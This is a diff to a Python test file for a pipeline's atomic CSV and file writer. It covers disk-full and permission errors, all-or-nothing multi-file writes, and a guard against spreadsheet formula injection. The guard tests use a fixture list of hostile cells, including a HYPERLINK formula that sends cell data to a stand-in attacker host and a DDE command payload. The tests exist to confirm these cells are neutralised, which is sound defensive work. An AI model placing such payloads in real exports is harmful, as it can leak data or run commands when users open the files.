@@ -9,17 +9,23 @@ import numpy as np
 import pandas as pd
 import pytest
 import scipy.sparse as sp
+from hypothesis import given
+from hypothesis import strategies as st
 
 from pipeline import atomic
 from pipeline.atomic import (
+    formula_guard,
+    read_csv,
     read_jsonl,
     sparse_to_npz_bytes,
     write_bytes,
     write_csv,
+    write_files,
     write_json,
     write_jsonl,
     write_text,
 )
+from pipeline.errors import PipelineError
 
 
 @pytest.fixture
@@ -86,7 +92,7 @@ def test_failing_replace_keeps_old_file_and_leaves_no_temp(tmp_path, frame, monk
         raise OSError("no")
 
     monkeypatch.setattr(os, "replace", refuse)
-    with pytest.raises(OSError):
+    with pytest.raises(PipelineError, match=r"shares.csv: cannot write \(no\); check the file"):
         write_csv(path, frame.iloc[:1])
     monkeypatch.undo()
     assert path.read_bytes() == before
@@ -190,3 +196,135 @@ def test_sparse_npz_file_loads(tmp_path):
     path = tmp_path / "dtm.npz"
     write_bytes(path, sparse_to_npz_bytes(matrix))
     assert (sp.load_npz(path) != matrix).nnz == 0
+
+
+def _full_disk(monkeypatch):
+    """Every new output file is /dev/full: writes fail with ENOSPC, as on a full disk."""
+    real = os.fdopen
+
+    def fdopen(fd, mode, **kwargs):
+        os.close(fd)
+        return real(os.open("/dev/full", os.O_WRONLY), mode, **kwargs)
+
+    monkeypatch.setattr(atomic.os, "fdopen", fdopen)
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
+def test_full_disk_is_one_line_and_keeps_the_old_file(tmp_path, frame, monkeypatch):
+    path = tmp_path / "shares.csv"
+    write_csv(path, frame)
+    before = path.read_bytes()
+    _full_disk(monkeypatch)
+    with pytest.raises(PipelineError) as caught:
+        write_csv(path, frame.iloc[:1])
+    assert str(caught.value) == (f"{path}: cannot write (No space left on device); free some "
+                                 "disk space and rerun")
+    monkeypatch.undo()
+    assert path.read_bytes() == before
+    assert _leftovers(tmp_path, {"shares.csv"}) == []
+
+
+def test_permission_denied_names_the_folder(tmp_path, monkeypatch):
+    import errno
+
+    def refuse(**kwargs):
+        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path))
+
+    monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse)
+    with pytest.raises(PipelineError) as caught:
+        write_text(tmp_path / "out.txt", "x")
+    assert str(caught.value) == (f"{tmp_path}: cannot write outputs here (Permission denied); "
+                                 "check the folder's permissions")
+
+
+def test_write_files_replaces_all_or_none(tmp_path, monkeypatch):
+    paths = [tmp_path / f"chart{i}.png" for i in range(3)]
+    write_files({p: b"old" for p in paths})
+    calls = []
+    real = os.replace
+
+    def fail_on_last(src, dst):
+        calls.append(dst)
+        if len(calls) == 3:
+            raise OSError(28, "No space left on device")
+        real(src, dst)
+
+    # A rename is the last step: every file is whole on disk before the first rename.
+    monkeypatch.setattr(os, "replace", fail_on_last)
+    with pytest.raises(PipelineError):
+        write_files({p: b"new" for p in paths})
+    monkeypatch.undo()
+    assert _leftovers(tmp_path, {p.name for p in paths}) == []
+    write_files({p: b"new" for p in paths})
+    assert [p.read_bytes() for p in paths] == [b"new"] * 3
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
+def test_write_files_on_a_full_disk_replaces_none(tmp_path, monkeypatch):
+    paths = [tmp_path / f"chart{i}.png" for i in range(3)]
+    write_files({p: b"old" for p in paths})
+    _full_disk(monkeypatch)
+    with pytest.raises(PipelineError, match="No space left on device"):
+        write_files({p: b"new" * 10_000 for p in paths})
+    monkeypatch.undo()
+    assert [p.read_bytes() for p in paths] == [b"old"] * 3
+    assert _leftovers(tmp_path, {p.name for p in paths}) == []
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1)", "\t=1", "'=already quoted", "''@x"]
+
+
+def test_formula_cells_are_neutralised_and_read_back_as_written(tmp_path):
+    import csv
+
+    frame = pd.DataFrame({"speaker": FORMULAS + ["岸", "01"],
+                          "share": [-0.5] * len(FORMULAS) + [0.25, 1.0]})
+    path = tmp_path / "t.csv"
+    write_csv(path, frame)
+    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["岸", "01"]
+    assert {r[1] for r in rows[1:]} == {"-0.500000", "0.250000", "1.000000"}  # numbers stay
+    back = read_csv(path)
+    assert back["speaker"].tolist() == frame["speaker"].tolist()
+    assert back["share"].tolist() == frame["share"].tolist()
+
+
+def test_formula_guard_off_writes_cells_as_they_are(tmp_path):
+    frame = pd.DataFrame({"speaker": ["=1+1", "'=x"], "share": [0.5, 0.5]})
+    path = tmp_path / "t.csv"
+    with formula_guard(False):
+        write_csv(path, frame)
+        assert read_csv(path)["speaker"].tolist() == ["=1+1", "'=x"]
+    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "=1+1,0.500000"
+
+
+def test_text_columns_keep_leading_zeros(tmp_path):
+    frame = pd.DataFrame({"speaker": ["1", "01", "001"], "meeting": ["2021", "02021", "x"],
+                          "n_docs": [1, 2, 3]})
+    path = tmp_path / "t.csv"
+    write_csv(path, frame)
+    back = read_csv(path)
+    assert back["speaker"].tolist() == ["1", "01", "001"]
+    assert back["meeting"].tolist() == ["2021", "02021", "x"]
+    assert back["n_docs"].tolist() == [1, 2, 3]
+
+
+def test_a_carriage_return_cannot_start_a_row(tmp_path):
+    import csv
+
+    # Unquoted, a bare \r would end the row in a spreadsheet and put `=1` in a cell of its own.
+    frame = pd.DataFrame({"source_id": ["\r=1", "a\r\nb"], "n_docs": [1, 2]})
+    path = tmp_path / "t.csv"
+    write_csv(path, frame)
+    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+    assert rows == [["source_id", "n_docs"], ["\n=1", "1"], ["a\nb", "2"]]
+
+
+@given(st.text(max_size=12))
+def test_guard_is_undone_exactly(value):
+    from pipeline.spreadsheet import TRIGGERS, guard_cell, unguard_cell
+
+    guarded = guard_cell(value)
+    assert unguard_cell(guarded) == value
+    assert not guarded.startswith(TRIGGERS)
